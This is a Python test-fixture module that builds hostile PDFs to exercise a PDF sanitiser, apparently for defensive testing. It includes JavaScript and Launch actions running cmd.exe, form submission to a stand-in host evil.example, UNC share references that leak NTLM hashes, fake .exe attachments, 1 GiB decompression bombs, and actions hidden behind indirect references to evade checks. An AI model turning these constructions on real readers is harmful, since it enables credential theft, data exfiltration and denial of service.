"""Generators of hostile and awkward PDFs, built here (never downloaded).

Each function returns the file's bytes. `clean_pdf` makes an ordinary file
with one line of text per page; the hostile ones add a single trick to it.
"""

import re
import struct
import zlib
from io import BytesIO

from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    BooleanObject,
    DecodedStreamObject,
    DictionaryObject,
    NameObject,
    NullObject,
    NumberObject,
    TextStringObject,
)

MB = 1024 * 1024
A4 = (595, 842)


def name(value: str) -> NameObject:
    return NameObject(value)


def pdf_dict(**entries) -> DictionaryObject:
    """DictionaryObject from keyword arguments: pdf_dict(S="/JavaScript") -> << /S /JavaScript >>."""
    return DictionaryObject({NameObject(f"/{key}"): value for key, value in entries.items()})


def js_action(script: str = "app.alert('pwned')") -> DictionaryObject:
    return pdf_dict(Type=name("/Action"), S=name("/JavaScript"), JS=TextStringObject(script))


def stream(writer: PdfWriter, data: bytes, **entries):
    obj = DecodedStreamObject()
    obj.set_data(data)
    obj.update(pdf_dict(**entries))
    return writer._add_object(obj)


def text_page(writer: PdfWriter, text: str):
    """A page showing `text` in Helvetica (ASCII only; enough for extraction tests)."""
    page = writer.add_blank_page(*A4)
    font = writer._add_object(pdf_dict(Type=name("/Font"), Subtype=name("/Type1"), BaseFont=name("/Helvetica")))
    page[name("/Resources")] = pdf_dict(Font=pdf_dict(F1=font))
    page[name("/Contents")] = stream(writer, f"BT /F1 14 Tf 72 760 Td ({text}) Tj ET".encode())
    return page


def clean_writer(pages: int = 1) -> PdfWriter:
    writer = PdfWriter()
    for number in range(1, pages + 1):
        text_page(writer, f"Clean page {number} of {pages}")
    return writer


def to_bytes(writer: PdfWriter) -> bytes:
    out = BytesIO()
    writer.write(out)
    return out.getvalue()


def clean_pdf(pages: int = 1) -> bytes:
    return to_bytes(clean_writer(pages))


def annotate(writer: PdfWriter, page_number: int, annotation: DictionaryObject) -> None:
    page = writer.pages[page_number]
    annotation.update(pdf_dict(Type=name("/Annot"), Rect=ArrayObject(map(NumberObject, (72, 700, 300, 730)))))
    page.setdefault(name("/Annots"), ArrayObject()).append(writer._add_object(annotation))


# Active content


def js_in_catalog() -> bytes:
    """JavaScript run on open: catalog /OpenAction, catalog /AA and the /Names /JavaScript tree."""
    writer = clean_writer()
    root = writer.root_object
    root[name("/OpenAction")] = writer._add_object(js_action())
    root[name("/AA")] = pdf_dict(WC=js_action("app.alert('closing')"))
    scripts = pdf_dict(Names=ArrayObject([TextStringObject("boot"), writer._add_object(js_action())]))
    root[name("/Names")] = pdf_dict(JavaScript=writer._add_object(scripts))
    return to_bytes(writer)


def js_in_page_aa() -> bytes:
    writer = clean_writer()
    writer.pages[0][name("/AA")] = pdf_dict(O=js_action(), C=js_action("app.alert('bye')"))
    return to_bytes(writer)


def link_actions() -> bytes:
    """Page 1: a JavaScript link, a Launch link and a harmless internal link to page 2."""
    writer = clean_writer(pages=2)
    annotate(writer, 0, pdf_dict(Subtype=name("/Link"), A=js_action()))
    launch = pdf_dict(S=name("/Launch"), F=TextStringObject("C:\\Windows\\System32\\calc.exe"))
    annotate(writer, 0, pdf_dict(Subtype=name("/Link"), A=launch))
    goto = pdf_dict(S=name("/GoTo"), D=ArrayObject([writer.pages[1].indirect_reference, name("/Fit")]),
                    Next=js_action("app.alert('chained')"))
    annotate(writer, 0, pdf_dict(Subtype=name("/Link"), A=goto))
    return to_bytes(writer)


def form_actions() -> bytes:
    """Widget annotations with SubmitForm, ResetForm, ImportData, GoToR, URI javascript: and Rendition."""
    writer = clean_writer()
    actions = [
        pdf_dict(S=name("/SubmitForm"), F=TextStringObject("https://evil.example/collect")),
        pdf_dict(S=name("/ResetForm")),
        pdf_dict(S=name("/ImportData"), F=TextStringObject("data.fdf")),
        pdf_dict(S=name("/GoToR"), F=TextStringObject("\\\\evil.example\\share\\x.pdf"),
                 D=ArrayObject([NumberObject(0)])),
        pdf_dict(S=name("/URI"), URI=TextStringObject("javascript:alert(1)")),
        pdf_dict(S=name("/Rendition"), JS=TextStringObject("app.alert(1)")),
    ]
    for action in actions:
        annotate(writer, 0, pdf_dict(Subtype=name("/Widget"), FT=name("/Btn"), A=action))
    return to_bytes(writer)


def outline_with_javascript() -> bytes:
    writer = clean_writer()
    item = writer.add_outline_item(title="Click me", page_number=0)
    item.get_object()[name("/A")] = js_action()
    return to_bytes(writer)


def embedded_files() -> bytes:
    """An attachment in the /EmbeddedFiles name tree and one in a FileAttachment annotation."""
    writer = clean_writer()
    writer.add_attachment("payload.exe", b"MZ\x90\x00 not really a program")
    payload = stream(writer, b"MZ\x90\x00 another one", Type=name("/EmbeddedFile"))
    filespec = pdf_dict(Type=name("/Filespec"), F=TextStringObject("invoice.exe"), EF=pdf_dict(F=payload))
    annotate(writer, 0, pdf_dict(Subtype=name("/FileAttachment"), FS=writer._add_object(filespec)))
    return to_bytes(writer)


def xfa_form() -> bytes:
    """An AcroForm with an XFA packet and a text field whose keystroke script is JavaScript."""
    writer = clean_writer()
    xdp = b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><script>app.alert(1)</script></xdp:xdp>'
    field = pdf_dict(
        Subtype=name("/Widget"), FT=name("/Tx"), T=TextStringObject("name"), V=TextStringObject("Ola"),
        AA=pdf_dict(K=js_action("event.rc = true")),
    )
    annotate(writer, 0, field)
    field_ref = writer.pages[0]["/Annots"][-1]
    writer.root_object[name("/AcroForm")] = writer._add_object(pdf_dict(
        Fields=ArrayObject([field_ref]),
        XFA=ArrayObject([TextStringObject("xdp"), stream(writer, xdp)]),
    ))
    return to_bytes(writer)


# Encryption


def encrypted(user_password: str, owner_password: str = "owner-secret") -> bytes:
    writer = clean_writer(pages=2)
    writer.encrypt(user_password=user_password, owner_password=owner_password, algorithm="RC4-128")
    return to_bytes(writer)


def user_password_pdf() -> bytes:
    return encrypted(user_password="user-secret")


def owner_password_only_pdf() -> bytes:
    return encrypted(user_password="")


# Damaged or not a PDF at all


def truncated_pdf() -> bytes:
    data = clean_pdf(pages=3)
    return data[: len(data) // 2]


def empty_file() -> bytes:
    return b""


def no_pages() -> bytes:
    return to_bytes(PdfWriter())


def text_file() -> bytes:
    return "Dette er et brev, ikke en PDF. Hilsen Åse.\n".encode()


def png_file() -> bytes:
    """A real 1x1 PNG, as someone would upload after renaming it to .pdf."""
    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    header = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    pixels = zlib.compress(b"\x00\xff\x00\x00")
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")


def png_behind_pdf_header() -> bytes:
    """Passes the magic-byte check, then is garbage to the parser."""
    return b"%PDF-1.7\n" + png_file() * 50


def shifted_xref() -> bytes:
    """Every in-use offset in the xref table points 7 bytes past its object (pypdf can repair this)."""
    data = clean_pdf(pages=2)
    start = data.rindex(b"\nxref\n")
    table = re.sub(rb"(\d{10}) (\d{5}) n", lambda m: b"%010d %s n" % (int(m[1]) + 7, m[2]), data[start:])
    return data[:start] + table


def broken_xref() -> bytes:
    """The xref table replaced by junk of the same length, the startxref pointer left as it was."""
    data = clean_pdf(pages=2)
    start = data.rindex(b"\nxref\n") + len(b"\nxref\n")
    end = data.index(b"trailer", start)
    junk = (b"garbled xref entry \n" * (end - start))[: end - start]
    return data[:start] + junk + data[end:]


# Resource exhaustion


def many_pages(count: int) -> bytes:
    """`count` pages that all share one content stream and one resources dict: small and quick to build."""
    writer = PdfWriter()
    first = text_page(writer, "Many pages")
    for _ in range(count - 1):
        page = writer.add_blank_page(*A4)
        page[name("/Resources")] = first["/Resources"]
        page[name("/Contents")] = first["/Contents"]
    return to_bytes(writer)


def deflated_zeros(megabytes: int) -> bytes:
    """A zlib stream inflating to `megabytes` MiB of zeros, built without compressing them all.

    After a full flush the compressor's state is reset, so every further MiB of
    zeros compresses to the same bytes; repeat that block, then end the stream
    with an empty final block and the Adler-32 of the zeros (a = 1, b = n mod 65521).
    """
    compressor = zlib.compressobj(9)
    zeros = bytes(MB)
    first = compressor.compress(zeros) + compressor.flush(zlib.Z_FULL_FLUSH)
    block = compressor.compress(zeros) + compressor.flush(zlib.Z_FULL_FLUSH)
    adler = ((megabytes * MB) % 65521) << 16 | 1
    return first + block * (megabytes - 1) + b"\x03\x00" + struct.pack(">I", adler)


def flate_bomb(megabytes: int = 1024, layers: int = 2) -> bytes:
    """A one-page PDF whose content stream inflates to `megabytes` MiB.

    Two Flate layers take 1 GiB down to ~2.5 KB (one layer: ~1 MB).
    """
    payload = deflated_zeros(megabytes)
    for _ in range(layers - 1):
        payload = zlib.compress(payload, 9)
    writer = PdfWriter()
    page = writer.add_blank_page(*A4)
    filters = ArrayObject([name("/FlateDecode")] * layers)
    page[name("/Contents")] = stream(writer, payload, Filter=filters)
    return to_bytes(writer)


def inflated_size_at_least(data: bytes, limit: int) -> bool:
    """Whether zlib `data` inflates to at least `limit` bytes, reading no further than that."""
    inflater = zlib.decompressobj()
    total = 0
    while total < limit and data:
        total += len(inflater.decompress(data, 16 * MB))
        data = inflater.unconsumed_tail
    return total >= limit


# Actions and annotations hidden behind indirect objects, chains and odd places
#
# A PDF may store any value, a name included, as an indirect object ("5 0 obj
# /GoTo endobj") and refer to it ("/S 5 0 R"). A check that reads the value
# without resolving the reference sees "5 0 R", not "/GoTo" or "/Launch".


def ref(writer: PdfWriter, obj):
    """`obj` as an indirect object of `writer`: the reference to it."""
    return writer._add_object(obj)


def launch_cmd() -> DictionaryObject:
    """Launch `cmd.exe /c calc`, the Windows way (/Win) and the generic way (/F)."""
    return pdf_dict(
        Type=name("/Action"), S=name("/Launch"), F=TextStringObject("cmd.exe"),
        Win=pdf_dict(F=TextStringObject("cmd.exe"), P=TextStringObject("/c calc"), O=TextStringObject("open")),
        NewWindow=BooleanObject(True),
    )


def submit_form() -> DictionaryObject:
    return pdf_dict(
        S=name("/SubmitForm"), Flags=NumberObject(4),
        F=pdf_dict(FS=name("/URL"), F=TextStringObject("https://evil.example/collect")),
    )


def gotor_unc() -> DictionaryObject:
    """Open a file on an SMB share: Windows sends the user's NTLM hash to the server on the way."""
    return pdf_dict(
        S=name("/GoToR"), F=TextStringObject("\\\\server\\share\\report.pdf"),
        D=ArrayObject([NumberObject(0), name("/Fit")]), NewWindow=BooleanObject(True),
    )


def uri_action() -> DictionaryObject:
    return pdf_dict(S=name("/URI"), URI=TextStringObject("https://evil.example/track?child=ola"))


def goto(writer: PdfWriter, page_number: int, *, indirect_type: bool = False, **entries) -> DictionaryObject:
    """An internal GoTo to `page_number`; `indirect_type` stores its /S as an indirect name."""
    action_type = ref(writer, name("/GoTo")) if indirect_type else name("/GoTo")
    destination = ArrayObject([writer.pages[page_number].indirect_reference, name("/Fit")])
    return pdf_dict(S=action_type, D=destination, **entries)


def with_indirect_type(writer: PdfWriter, action: DictionaryObject) -> DictionaryObject:
    action[name("/S")] = ref(writer, action["/S"])
    return action


def link(writer: PdfWriter, page_number: int, action, **entries) -> None:
    annotate(writer, page_number, pdf_dict(Subtype=name("/Link"), A=action, **entries))


def outline_action(writer: PdfWriter, title: str, action) -> None:
    item = writer.add_outline_item(title=title, page_number=0)
    item.get_object()[name("/A")] = action


def indirect_goto_with_launch() -> bytes:
    """An internal GoTo whose /S is an indirect name, chaining (/Next) to Launch cmd.exe: on a link and a bookmark."""
    writer = clean_writer(pages=2)
    link(writer, 0, goto(writer, 1, indirect_type=True, Next=launch_cmd()))
    outline_action(writer, "Chapter 2", goto(writer, 1, indirect_type=True, Next=ref(writer, launch_cmd())))
    return to_bytes(writer)


def nested_next_chains() -> bytes:
    """/Next as an array and as a dictionary, four levels deep, every action type somewhere in it.

    The outermost GoTo has an indirect /S; the inner ones mix direct and
    indirect types and references. A second link's chain loops back on itself.
    """
    writer = clean_writer(pages=2)
    level4 = ArrayObject([ref(writer, uri_action()), with_indirect_type(writer, launch_cmd())])
    level3 = goto(writer, 0, indirect_type=True, Next=level4)
    level2 = ArrayObject([
        ref(writer, js_action("app.alert('level 2')")), ref(writer, level3), with_indirect_type(writer, gotor_unc()),
    ])
    level1 = goto(writer, 1, Next=pdf_dict(S=ref(writer, name("/SubmitForm")),
                                            F=TextStringObject("https://evil.example/collect"), Next=level2))
    link(writer, 0, goto(writer, 1, indirect_type=True, Next=ArrayObject([ref(writer, level1)])))
    # A cycle: first -> second -> first, both GoTos with indirect types, the second also launching.
    first = goto(writer, 1, indirect_type=True)
    first_ref = ref(writer, first)
    second = goto(writer, 0, indirect_type=True, Next=ArrayObject([first_ref, launch_cmd()]))
    first[name("/Next")] = ref(writer, second)
    link(writer, 1, first_ref)
    return to_bytes(writer)


def long_next_chain(length: int = 3000) -> bytes:
    """A GoTo followed by `length` more GoTos (each an indirect object), then Launch: deeper than Python recurses."""
    writer = clean_writer(pages=2)
    action = ref(writer, launch_cmd())
    for _ in range(length):
        action = ref(writer, goto(writer, 1, indirect_type=True, Next=action))
    link(writer, 0, action)
    return to_bytes(writer)


def indirect_annotation_subtypes() -> bytes:
    """Annotations whose /Subtype is an indirect name: every dropped kind, plus a note and a link that may stay."""
    writer = clean_writer(pages=2)

    def subtype(value: str):
        return ref(writer, name(value))

    payload = stream(writer, b"MZ\x90\x00 not really a program", Type=name("/EmbeddedFile"))
    filespec = ref(writer, pdf_dict(Type=name("/Filespec"), F=TextStringObject("invoice.exe"), EF=pdf_dict(F=payload)))
    annotate(writer, 0, pdf_dict(Subtype=subtype("/FileAttachment"), FS=filespec, Name=name("/PushPin")))
    sound = stream(writer, b"\x00" * 64, Type=name("/Sound"), R=NumberObject(8000))
    annotate(writer, 0, pdf_dict(Subtype=subtype("/Sound"), Sound=sound))
    annotate(writer, 0, pdf_dict(Subtype=subtype("/Movie"),
                                 Movie=pdf_dict(F=TextStringObject("\\\\server\\share\\movie.avi"))))
    rendition = pdf_dict(S=name("/Rendition"), OP=NumberObject(0), JS=TextStringObject("app.alert('screen')"))
    annotate(writer, 0, pdf_dict(Subtype=subtype("/Screen"), A=rendition))
    annotate(writer, 0, pdf_dict(Subtype=subtype("/RichMedia"), RichMediaContent=pdf_dict(Assets=pdf_dict())))
    annotate(writer, 0, pdf_dict(Subtype=subtype("/3D"), **{"3DD": stream(writer, b"U3D", Type=name("/3D"),
                                                                       Subtype=name("/U3D"))}))
    annotate(writer, 0, pdf_dict(Subtype=subtype("/Widget"), FT=name("/Btn"), T=TextStringObject("send"),
                                 A=with_indirect_type(writer, submit_form())))
    annotate(writer, 0, pdf_dict(Subtype=subtype("/Link"), A=with_indirect_type(writer, uri_action())))
    annotate(writer, 0, pdf_dict(Subtype=subtype("/Link"), A=goto(writer, 1, indirect_type=True,
                                                                   Next=with_indirect_type(writer, launch_cmd()))))
    annotate(writer, 0, pdf_dict(Subtype=subtype("/Text"), Contents=TextStringObject("A note"),
                                 AA=pdf_dict(E=js_action("app.alert('hover')"))))
    annotate(writer, 0, pdf_dict(Subtype=subtype("/Unheardof"), A=launch_cmd()))
    return to_bytes(writer)


def launch_everywhere() -> bytes:
    """Launch cmd.exe as a link, a bookmark, a page's open action and the document's open action."""
    writer = clean_writer(pages=2)
    link(writer, 0, launch_cmd())
    link(writer, 0, with_indirect_type(writer, launch_cmd()))
    link(writer, 0, ref(writer, goto(writer, 1, indirect_type=True, Next=ref(writer, launch_cmd()))))
    outline_action(writer, "Open me", with_indirect_type(writer, launch_cmd()))
    writer.pages[1][name("/AA")] = pdf_dict(O=with_indirect_type(writer, launch_cmd()))
    writer.root_object[name("/OpenAction")] = ref(writer, with_indirect_type(writer, launch_cmd()))
    return to_bytes(writer)


def remote_actions() -> bytes:
    """SubmitForm, GoToR to \\\\server\\share and URI: as links with direct and indirect types, chained, bookmarked."""
    writer = clean_writer(pages=2)
    for make in (submit_form, gotor_unc, uri_action):
        link(writer, 0, make())
        link(writer, 0, with_indirect_type(writer, make()))
        link(writer, 0, goto(writer, 1, indirect_type=True, Next=ref(writer, with_indirect_type(writer, make()))))
        outline_action(writer, make.__name__, with_indirect_type(writer, make()))
    return to_bytes(writer)


def javascript_everywhere() -> bytes:
    """JavaScript in the /AA of the catalog, a page and annotations, /OpenAction, and a /Names /JavaScript tree.

    The name dictionary and the tree are indirect, the tree has a kid node,
    and every action type is an indirect name.
    """
    writer = clean_writer(pages=2)

    def script(text: str):
        return with_indirect_type(writer, js_action(text))

    root = writer.root_object
    root[name("/OpenAction")] = goto(writer, 1, indirect_type=True, Next=script("app.alert('open')"))
    root[name("/AA")] = ref(writer, pdf_dict(WC=script("app.alert('close')"), DP=script("app.alert('printed')")))
    kid = ref(writer, pdf_dict(Names=ArrayObject([TextStringObject("boot"), ref(writer, script("app.alert(1)"))]),
                               Limits=ArrayObject([TextStringObject("boot"), TextStringObject("boot")])))
    root[name("/Names")] = ref(writer, pdf_dict(JavaScript=ref(writer, pdf_dict(Kids=ArrayObject([kid])))))
    writer.pages[0][name("/AA")] = pdf_dict(O=script("app.alert('page open')"), C=ref(writer, script("bye")))
    link(writer, 0, goto(writer, 1), AA=pdf_dict(E=script("app.alert('enter')"), X=script("app.alert('exit')")))
    annotate(writer, 1, pdf_dict(Subtype=name("/Square"), AA=ref(writer, pdf_dict(U=script("app.alert('up')")))))
    annotate(writer, 1, pdf_dict(Subtype=name("/Text"), Contents=TextStringObject("Note"),
                                 A=script("app.alert('note')")))
    return to_bytes(writer)


def appearance(writer: PdfWriter, text: str):
    """A form XObject showing `text` (what a filled field looks like)."""
    font = writer._add_object(pdf_dict(Type=name("/Font"), Subtype=name("/Type1"), BaseFont=name("/Helvetica")))
    return stream(
        writer, f"BT /F1 12 Tf 2 8 Td ({text}) Tj ET".encode(),
        Type=name("/XObject"), Subtype=name("/Form"),
        BBox=ArrayObject(map(NumberObject, (0, 0, 228, 30))), Resources=pdf_dict(Font=pdf_dict(F1=font)),
    )


def acroform_actions() -> bytes:
    """A filled form with field actions and XFA: a text field (keystroke and calculate scripts, indirect
    widget subtype), a submit button (indirect /S), a checkbox, a field hierarchy, an XFA packet."""
    writer = clean_writer()
    name_field = pdf_dict(
        Subtype=ref(writer, name("/Widget")), FT=name("/Tx"), T=TextStringObject("name"),
        V=TextStringObject("Ola Nordmann"), AP=pdf_dict(N=appearance(writer, "Ola Nordmann")),
        AA=pdf_dict(K=js_action("event.rc = true"), C=js_action("event.value = 1")),
        F=NumberObject(4),
    )
    annotate(writer, 0, name_field)
    send = pdf_dict(Subtype=name("/Widget"), FT=name("/Btn"), Ff=NumberObject(1 << 16), T=TextStringObject("send"),
                    A=with_indirect_type(writer, submit_form()), AP=pdf_dict(N=appearance(writer, "Send")))
    annotate(writer, 0, send)
    checked = pdf_dict(
        Subtype=name("/Widget"), AS=name("/Yes"), AA=pdf_dict(U=with_indirect_type(writer, launch_cmd())),
        AP=pdf_dict(N=pdf_dict(Yes=appearance(writer, "X"), Off=appearance(writer, ""))),
    )
    annotate(writer, 0, checked)
    annotations = writer.pages[0]["/Annots"]
    parent = ref(writer, pdf_dict(FT=name("/Btn"), T=TextStringObject("consent"), V=name("/Yes"),
                                  Kids=ArrayObject([annotations[-1]]), AA=pdf_dict(V=js_action("app.alert(2)"))))
    annotations[-1].get_object()[name("/Parent")] = parent
    xdp = b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><script>app.alert(1)</script></xdp:xdp>'
    writer.root_object[name("/AcroForm")] = writer._add_object(pdf_dict(
        Fields=ArrayObject([annotations[0], annotations[1], parent]),
        XFA=ArrayObject([TextStringObject("xdp"), stream(writer, xdp)]),
        NeedAppearances=BooleanObject(True),
    ))
    return to_bytes(writer)


def actions_in_odd_places() -> bytes:
    """Active objects referenced from where no viewer runs them, so only a whole-graph walk finds them:
    a note whose popup's /Parent is a widget, an action under a made-up key, external stream data."""
    writer = clean_writer(pages=2)
    widget = ref(writer, pdf_dict(Type=name("/Annot"), Subtype=ref(writer, name("/Widget")),
                                  A=submit_form(), Rect=ArrayObject(map(NumberObject, (0, 0, 10, 10)))))
    popup = ref(writer, pdf_dict(Type=name("/Annot"), Subtype=name("/Popup"), Parent=widget,
                                 Rect=ArrayObject(map(NumberObject, (0, 0, 10, 10)))))
    annotate(writer, 0, pdf_dict(Subtype=name("/Text"), Popup=popup, IRT=widget,
                                 Contents=TextStringObject("note")))
    writer.pages[0][name("/PieceInfo")] = pdf_dict(Evil=pdf_dict(Private=ref(writer, launch_cmd()),
                                                                 Dest=goto(writer, 1, indirect_type=True)))
    writer.pages[1][name("/Thumb")] = stream(writer, b"", F=TextStringObject("\\\\server\\share\\thumb.raw"))
    form = appearance(writer, "external")
    form.get_object()[name("/Ref")] = pdf_dict(F=TextStringObject("\\\\server\\share\\a.pdf"), Page=NumberObject(0))
    writer.pages[1][name("/Resources")][name("/XObject")] = pdf_dict(X1=form)
    writer.pages[1][name("/PresSteps")] = pdf_dict(Type=name("/NavNode"), NA=launch_cmd(), PA=uri_action())
    writer.root_object[name("/URI")] = pdf_dict(Base=TextStringObject("https://evil.example/"))
    return to_bytes(writer)


def linked_document() -> bytes:
    """An ordinary 3-page document with internal links and nested bookmarks, as a word processor writes them:
    /Dest arrays, GoTo actions with explicit and named destinations, and a /Names /Dests tree."""
    writer = clean_writer(pages=3)
    pages = [page.indirect_reference for page in writer.pages]
    annotate(writer, 0, pdf_dict(Subtype=name("/Link"), Dest=ArrayObject([pages[2], name("/Fit")])))
    link(writer, 0, pdf_dict(S=name("/GoTo"), D=ArrayObject([pages[1], name("/XYZ"), NumberObject(72),
                                                             NumberObject(700), NullObject()])))
    link(writer, 0, pdf_dict(Type=name("/Action"), S=name("/GoTo"), D=TextStringObject("chapter3")))
    link(writer, 1, ref(writer, pdf_dict(S=name("/GoTo"), D=ArrayObject([pages[0], name("/FitH"), NumberObject(800)]))))
    writer.add_named_destination("chapter3", 2)
    chapter1 = writer.add_outline_item(title="Chapter 1", page_number=0)
    section = writer.add_outline_item(title="Section 1.1", page_number=1, parent=chapter1).get_object()
    section[name("/Dest")] = section.pop("/A")["/D"]
    chapter3 = writer.add_outline_item(title="Chapter 3", page_number=2).get_object()
    chapter3[name("/A")] = pdf_dict(S=name("/GoTo"), D=TextStringObject("chapter3"))
    return to_bytes(writer)


def type_behind_two_references() -> bytes:
    """A link whose action type is a reference to a reference to /Launch ("6 0 obj 5 0 R endobj")."""
    writer = clean_writer(pages=2)
    launch = ref(writer, name("/Launch"))
    outer = ref(writer, NullObject())
    writer._objects[outer.idnum - 1] = launch  # pypdf writes the object's value as "5 0 R"
    action = launch_cmd()
    action[name("/S")] = outer
    link(writer, 0, action)
    link(writer, 0, goto(writer, 1, Next=pdf_dict(S=outer)))
    return to_bytes(writer)


def object_stream_bomb(megabytes: int = 1024) -> bytes:
    """A one-page PDF whose catalog lives in an object stream inflating to `megabytes` MiB (~1 MB on disk).

    A parser must inflate an object stream to read the objects in it (unlike
    a page's content stream, which can be copied compressed). Written by hand:
    an xref stream points into the object stream.
    """
    catalog = b"3 0 << /Type /Catalog /Pages 2 0 R >> "
    first = len(b"3 0 ")
    compressor = zlib.compressobj(9)
    head = compressor.compress(catalog) + compressor.flush(zlib.Z_FULL_FLUSH)
    block = compressor.compress(bytes(MB)) + compressor.flush(zlib.Z_FULL_FLUSH)  # the same for every MiB
    a = (1 + sum(catalog)) % 65521
    b = (sum(1 + sum(catalog[:n + 1]) for n in range(len(catalog))) + megabytes * MB * a) % 65521
    data = head[2:] + block * megabytes + b"\x03\x00"  # raw deflate; the zlib header and Adler-32 go around it
    data = head[:2] + data + struct.pack(">I", b << 16 | a)
    out, offsets = b"%PDF-1.7\n", {}

    def add(number: int, body: bytes) -> None:
        nonlocal out
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)

    add(1, b"<< /Type /ObjStm /N 1 /First %d /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream"
        % (first, len(data), data))
    add(2, b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>")
    add(4, b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>")
    offsets[5] = len(out)
    rows = [(0, 0, 65535), (1, offsets[1], 0), (1, offsets[2], 0), (2, 1, 0), (1, offsets[4], 0), (1, offsets[5], 0)]
    table = b"".join(struct.pack(">BIH", *row) for row in rows)
    out += b"5 0 obj\n<< /Type /XRef /Size 6 /W [1 4 2] /Root 3 0 R /Length %d >>\nstream\n%s\nendstream\nendobj\n" % (
        len(table), table)
    return out + b"startxref\n%d\n%%%%EOF\n" % offsets[5]
